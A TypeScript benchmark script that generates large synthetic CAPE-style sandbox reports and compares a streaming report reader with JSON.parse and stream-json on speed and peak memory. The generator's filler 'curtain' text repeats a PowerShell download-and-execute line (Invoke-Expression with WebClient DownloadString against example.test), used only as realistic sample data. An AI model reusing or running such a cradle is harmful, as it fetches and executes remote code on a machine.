// Reading a huge sandbox report: throughput and peak memory of the streaming report reader
// (src/ingest/readers/report-common.ts over src/ingest/json/tokenizer.ts) against JSON.parse and the
// stream-json library on the same bytes.
//
// It generates (into the OS temp folder, deleted afterwards) two CAPE-like compact reports from
// the same generator: a BIG one (1 GB: many processes with realistic call records and
// arguments, plus a ~15% `curtain`-like section to skip) and a MID one (200 MB). The big one is
// larger than V8's longest string (~512 MiB), so JSON.parse cannot read it at all; the comparisons
// with JSON.parse and stream-json are therefore made on the MID report, where each is measured in
// a fresh child process (wall time of the read, peak RSS from the kernel's maxRSS).
// Usage: npm run bench -- read-report   (MALGRAM_BENCH_MB=BIG,MID to change the sizes)
import { spawnSync } from 'node:child_process';
import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { fileURLToPath } from 'node:url';
import { seededRandom } from '../src/core/random.js';

const self = fileURLToPath(import.meta.url);

// ---------- child modes: one measurement per process ----------
async function measure(mode: string, file: string): Promise<void> {
  // Modules are loaded (and compiled by tsx) before the clock starts.
  const { capeReader } = await import('../src/ingest/readers/cape.js');
  const { parser } = await import('stream-json');
  const { pick } = await import('stream-json/filters/pick.js');
  const { streamValues } = await import('stream-json/streamers/stream-values.js');
  const t0 = process.hrtime.bigint();
  const cpu0 = process.cpuUsage();
  let records = 0;
  if (mode === 'ours-api' || mode === 'ours-full') {
    const detail = mode === 'ours-api' ? 'api' : 'full';
    for await (const trace of capeReader.read(file, { detail, processes: 'all' })) {
      for (const p of trace.processes) records += p.calls.length;
    }
  } else if (mode === 'json-parse') {
    const doc = JSON.parse(readFileSync(file, 'utf8'));
    for (const p of doc.behavior.processes) records += p.calls.length;
  } else if (mode === 'stream-json') {
    const values = streamValues.asStream();
    values.on('data', () => {
      records++;
    });
    await pipeline(
      createReadStream(file, { highWaterMark: 1 << 20 }),
      parser.asStream(),
      pick.asStream({ filter: /^behavior\.processes\.\d+\.calls\.\d+$/ }),
      values,
    );
  }
  const seconds = Number(process.hrtime.bigint() - t0) / 1e9;
  const cpu = process.cpuUsage(cpu0);
  const cpuSeconds = (cpu.user + cpu.system) / 1e6;
  const maxRssMB = process.resourceUsage().maxRSS / 1024;
  process.stdout.write(`${JSON.stringify({ seconds, cpuSeconds, maxRssMB, records })}\n`);
}

interface Result {
  seconds: number;
  /** CPU time of the process (all threads: zlib, GC helpers); wall time suffers on a shared machine. */
  cpuSeconds: number;
  maxRssMB: number;
  records: number;
}

function runChild(mode: string, file: string): Result | { error: string } {
  const r = spawnSync(
    process.execPath,
    ['--expose-gc', '--max-old-space-size=8192', '--import', 'tsx', self, '--measure', mode, file],
    { encoding: 'utf8', maxBuffer: 1 << 20 },
  );
  const line = r.stdout.trim().split('\n').pop() ?? '';
  if (r.status !== 0 || !line.startsWith('{')) return { error: (r.stderr || r.stdout).trim().split('\n')[0] };
  return JSON.parse(line) as Result;
}

// ---------- report generator ----------

const API_TEMPLATES: [string, string, string[]][] = [
  [
    'NtCreateFile',
    'filesystem',
    ['FileHandle', 'DesiredAccess', 'FileName', 'CreateDisposition', 'ShareAccess'],
  ],
  ['NtReadFile', 'filesystem', ['FileHandle', 'HandleName', 'Buffer', 'Length', 'Offset']],
  ['NtWriteFile', 'filesystem', ['FileHandle', 'HandleName', 'Buffer', 'Length']],
  ['NtOpenKey', 'registry', ['KeyHandle', 'DesiredAccess', 'ObjectAttributes']],
  ['RegQueryValueExW', 'registry', ['Handle', 'ValueName', 'Type', 'Data', 'FullName']],
  ['NtAllocateVirtualMemory', 'process', ['ProcessHandle', 'BaseAddress', 'RegionSize', 'Protection']],
  [
    'NtProtectVirtualMemory',
    'process',
    ['ProcessHandle', 'BaseAddress', 'NumberOfBytesProtected', 'NewAccessProtection'],
  ],
  ['LdrLoadDll', 'system', ['Flags', 'FileName', 'BaseAddress']],
  [
    'LdrGetProcedureAddress',
    'system',
    ['ModuleName', 'ModuleHandle', 'FunctionName', 'Ordinal', 'FunctionAddress'],
  ],
  ['NtDelayExecution', 'system', ['Milliseconds', 'Status']],
  ['GetSystemTimeAsFileTime', 'system', []],
  [
    'NtQueryInformationProcess',
    'process',
    ['ProcessHandle', 'ProcessInformationClass', 'ProcessInformation'],
  ],
  [
    'CreateProcessInternalW',
    'process',
    ['ApplicationName', 'CommandLine', 'CreationFlags', 'ProcessId', 'ThreadId'],
  ],
  ['InternetOpenUrlA', 'network', ['InternetHandle', 'URL', 'Headers', 'Flags']],
  ['NtClose', 'system', ['Handle']],
];

function argValue(name: string, rand: () => number): string {
  const hex = () =>
    `0x${Math.floor(rand() * 0xffffffff)
      .toString(16)
      .padStart(8, '0')}`;
  if (/Handle|Address|Flags|Access|Protection/.test(name)) return hex();
  if (/Name|URL|CommandLine/.test(name)) {
    return `C:\\\\Users\\\\maxine\\\\AppData\\\\Local\\\\Temp\\\\${Math.floor(rand() * 1e9).toString(36)}\\\\file-é-${Math.floor(rand() * 1000)}.dll`;
  }
  if (name === 'Buffer' || name === 'Data')
    return '\\\\x00\\\\x01MZ\\\\x90\\\\x00 \\"quoted\\" text\\\\n'.repeat(1 + Math.floor(rand() * 3));
  return String(Math.floor(rand() * 100000));
}

async function generateReport(path: string, targetBytes: number, seed: number): Promise<number> {
  const rand = seededRandom(seed);
  const out = createWriteStream(path);
  let written = 0;
  let pending = '';
  const emit = async (s: string) => {
    pending += s;
    if (pending.length >= 1 << 20) {
      written += Buffer.byteLength(pending);
      const ok = out.write(pending);
      pending = '';
      if (!ok) await new Promise<void>((r) => out.once('drain', () => r()));
    }
  };
  const size = () => written + pending.length;
  await emit(
    '{"info":{"id":1,"version":"2.4-CAPE","started":"2023-07-22 10:28:02","ended":"2023-07-22 10:31:02","duration":180,"category":"file","machine":{"name":"win10","label":"win10"}},',
  );
  await emit(
    `"target":{"category":"file","file":{"name":"sample.exe","size":123456,"sha256":"${'ab'.repeat(32)}","type":"PE32 executable"}},`,
  );
  // A curtain-like section (~15%): many script blocks, escapes and non-ASCII text, to be skipped.
  await emit('"curtain":{');
  const curtainBytes = targetBytes * 0.15;
  for (let i = 0; size() < curtainBytes; i++) {
    const block = `$x = \\"payload ${i}\\"; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.test/${i}') # ünïcødé \\u00e9\\n`;
    await emit(
      `${i > 0 ? ',' : ''}"${i}":{"pid":${1000 + (i % 7)},"events":[{"Message":"${block.repeat(30)}"}],"filter":[]}`,
    );
  }
  await emit('},"behavior":{"processes":[');
  const processes = 48;
  const perProcessBytes = (targetBytes * 0.83 - size()) / processes;
  let callTotal = 0;
  for (let p = 0; p < processes; p++) {
    const pid = 4000 + p * 4;
    const ppid = p === 0 ? 3000 : 4000 + Math.floor(rand() * p) * 4;
    await emit(
      `${p > 0 ? ',' : ''}{"process_id":${pid},"process_name":"proc${p}.exe","parent_id":${ppid},"module_path":"C:\\\\Windows\\\\proc${p}.exe","first_seen":"2023-07-22 10:28:15,988","threads":["5180","2104"],"environ":{"UserName":"maxine","CommandLine":"proc${p}.exe /run","Bitness":"32-bit"},"calls":[`,
    );
    const start = size();
    let ms = 0;
    for (let c = 0; size() - start < perProcessBytes; c++) {
      const [api, category, names] = API_TEMPLATES[Math.floor(rand() * API_TEMPLATES.length)];
      ms += Math.floor(rand() * 3);
      const t = new Date(Date.UTC(2023, 6, 22, 10, 28, 16) + ms).toISOString();
      const timestamp = `${t.slice(0, 10)} ${t.slice(11, 19)},${t.slice(20, 23)}`;
      const args = names.map((n) => `{"name":"${n}","value":"${argValue(n, rand)}"}`).join(',');
      const repeated = rand() < 0.05 ? Math.floor(rand() * 20) : 0;
      await emit(
        `${c > 0 ? ',' : ''}{"timestamp":"${timestamp}","thread_id":"5180","caller":"0x0097539f","parentcaller":"0x00967ad8","category":"${category}","api":"${api}","status":${rand() < 0.9},"return":"0x00000000","pretty_return":"STATUS_SUCCESS","arguments":[${args}],"repeated":${repeated},"id":${c}}`,
      );
      callTotal++;
    }
    await emit(']}');
  }
  await emit('],"processtree":[],"summary":{"files":[],"keys":[],"mutexes":[]}},"signatures":[');
  for (let s = 0; size() < targetBytes; s++) {
    await emit(
      `${s > 0 ? ',' : ''}{"name":"sig${s}","description":"generated","severity":2,"data":[{"x":"${'y'.repeat(200)}"}]}`,
    );
  }
  await emit(']}');
  written += Buffer.byteLength(pending);
  out.end(pending);
  await new Promise<void>((r) => out.once('finish', () => r()));
  return callTotal;
}

// ---------- main ----------
async function main(): Promise<void> {
  const [bigMB, midMB] = (process.env.MALGRAM_BENCH_MB ?? '1000,200').split(',').map(Number);
  const dir = mkdtempSync(join(tmpdir(), 'malgram-read-report-'));
  try {
    const big = join(dir, 'big.json');
    const mid = join(dir, 'mid.json');
    const bigCalls = await generateReport(big, bigMB * 1e6, 1);
    const midCalls = await generateReport(mid, midMB * 1e6, 2);
    const bigBytes = statSync(big).size;
    const midBytes = statSync(mid).size;
    const mb = (b: number) => (b / 1e6).toFixed(0);
    const show = (label: string, bytes: number, r: Result | { error: string }, base?: Result): void => {
      if ('error' in r) {
        process.stdout.write(`${label.padEnd(42)} failed: ${r.error}\n`);
        return;
      }
      const rate = bytes / 1e6 / r.seconds;
      const cpuRate = bytes / 1e6 / r.cpuSeconds;
      const vs = base
        ? `  wall ×${(r.seconds / base.seconds).toFixed(2)} cpu ×${(r.cpuSeconds / base.cpuSeconds).toFixed(2)} RSS ×${(r.maxRssMB / base.maxRssMB).toFixed(2)} of ours`
        : '';
      process.stdout.write(
        `${label.padEnd(42)} wall ${r.seconds.toFixed(2).padStart(6)} s ${rate.toFixed(0).padStart(4)} MB/s  cpu ${r.cpuSeconds.toFixed(2).padStart(6)} s ${cpuRate.toFixed(0).padStart(4)} MB/s  peak RSS ${r.maxRssMB.toFixed(0).padStart(5)} MB  records ${r.records}${vs}\n`,
      );
    };
    process.stdout.write(
      `generated: big ${mb(bigBytes)} MB (${bigCalls} calls), mid ${mb(midBytes)} MB (${midCalls} calls), compact JSON, 48 processes, 15% curtain\n`,
    );
    const idle = runChild('idle', mid);
    if (!('error' in idle))
      process.stdout.write(
        `child process baseline (node + tsx, no work): peak RSS ${idle.maxRssMB.toFixed(0)} MB\n`,
      );
    show(`ours detail=api  big ${mb(bigBytes)} MB`, bigBytes, runChild('ours-api', big));
    rmSync(big);
    const ours = runChild('ours-api', mid);
    show(`ours detail=api  mid ${mb(midBytes)} MB`, midBytes, ours);
    const base = 'error' in ours ? undefined : ours;
    show(`ours detail=full mid ${mb(midBytes)} MB`, midBytes, runChild('ours-full', mid), base);
    show(`JSON.parse (readFileSync+parse) mid`, midBytes, runChild('json-parse', mid), base);
    show(`stream-json parser+pick+streamValues mid`, midBytes, runChild('stream-json', mid), base);
    process.stdout.write(
      `note: JSON.parse cannot read the big report at all (longer than V8's maximum string, ${(2 ** 29 - 24).toLocaleString('en')} chars); compared on the mid one.\n`,
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const at = process.argv.indexOf('--measure');
if (at >= 0) await measure(process.argv[at + 1], process.argv[at + 2]);
else await main();
